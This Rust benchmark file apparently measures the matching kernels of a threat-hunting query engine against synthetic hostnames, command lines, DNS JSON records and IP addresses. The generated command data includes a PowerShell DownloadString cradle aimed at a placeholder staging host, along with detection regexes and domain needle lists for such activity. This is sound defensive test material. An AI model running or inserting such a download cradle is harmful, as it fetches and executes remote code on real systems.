//! What kernels cost a row: `cargo run --release -p huntql-benches --bin kernels`.
//!
//! Each measurement goes over the same made-up texts, 10,000 a round; the figure beside it is items a second.

use divan::counter::ItemsCount;
use divan::{Bencher, black_box};
use huntql_engine::json;
use huntql_engine::kernel::ip::Network;
use huntql_engine::kernel::pattern;
use huntql_engine::kernel::text::{Case, Matcher, MatcherSet, Place, Quantity};

const TEXTS: usize = 10_000;

fn main() {
    divan::main();
}

/// Names of hosts; one in a thousand holds what is looked for.
fn names() -> Vec<String> {
    let name = |number: usize| match number % 1000 {
        0 => format!("cdn{number}.evilrelay.example"),
        _ => format!("kalin{}.mox{}.example", number % 613, number % 97),
    };
    (0..TEXTS).map(name).collect()
}

fn commands() -> Vec<String> {
    let command = |number: usize| match number % 1000 {
        0 => "powershell -c (New-Object Net.WebClient).DownloadString('http://stage.example/a')"
            .to_owned(),
        _ => format!(
            "\"C:\\Program Files\\agent{0}\\agent{0}.exe\" --profile p{1} --type=renderer --session {2}",
            number % 29,
            number % 51,
            number * 7919
        ),
    };
    (0..TEXTS).map(command).collect()
}

fn bags() -> Vec<String> {
    let bag = |number: usize| {
        format!(
            "{{\"query\":\"host{number}.example\",\"rtt\":{},\"rcode_name\":\"NXDOMAIN\",\"answers\":[1,2]}}",
            number % 90
        )
    };
    (0..TEXTS).map(bag).collect()
}

fn addresses() -> Vec<String> {
    (0..TEXTS)
        .map(|number| format!("10.{}.{}.{}", number % 256, number / 256, number % 250))
        .collect()
}

/// Counts the texts that a test holds for.
fn over(bencher: Bencher<'_, '_>, texts: Vec<String>, test: impl Fn(&str) -> bool + Sync) {
    bencher
        .counter(ItemsCount::new(TEXTS))
        .bench(|| black_box(&texts).iter().filter(|text| test(text)).count());
}

#[divan::bench(args = [("has", Place::Term), ("contains", Place::Anywhere), ("startswith", Place::Start), ("equals", Place::Whole)])]
fn needle_in_names(bencher: Bencher<'_, '_>, (_, place): (&str, Place)) {
    let matcher = Matcher::new("evilrelay", place, Case::Insensitive);
    over(bencher, names(), |text| matcher.is_match(text));
}

#[divan::bench(args = ["downloadstring", "ownloadstrin"])]
fn contains_in_commands(bencher: Bencher<'_, '_>, needle: &str) {
    let matcher = Matcher::new(needle, Place::Anywhere, Case::Insensitive);
    over(bencher, commands(), |text| matcher.is_match(text));
}

#[divan::bench(args = [2, 50, 5000])]
fn has_any_in_names(bencher: Bencher<'_, '_>, count: usize) {
    let needles: Vec<String> = (0..count)
        .map(|number| format!("bad{number}.sinkhole"))
        .collect();
    let set = MatcherSet::new(needles.iter().map(String::as_str));
    over(bencher, names(), |text| set.is_match(text, Quantity::Any));
}

#[divan::bench(args = [r"^[a-z0-9]{14}\.(xyz|top|club)$", r"(?i)downloadstring\(.{0,40}http"])]
fn regex_in_commands(bencher: Bencher<'_, '_>, written: &str) {
    let regex = pattern::compile(written, 1).expect("the pattern is one");
    over(bencher, commands(), |text| regex.is_match(text));
}

#[divan::bench]
fn member_of_a_bag(bencher: Bencher<'_, '_>) {
    over(bencher, bags(), |text| {
        json::member(text, "rcode_name").is_some_and(|name| name == "\"NXDOMAIN\"")
    });
}

#[divan::bench]
fn parse_a_bag(bencher: Bencher<'_, '_>) {
    over(bencher, bags(), |text| json::parse(text).is_some());
}

#[divan::bench]
fn private_addresses(bencher: Bencher<'_, '_>) {
    over(bencher, addresses(), |text| {
        Network::parse(text).is_some_and(Network::is_private)
    });
}
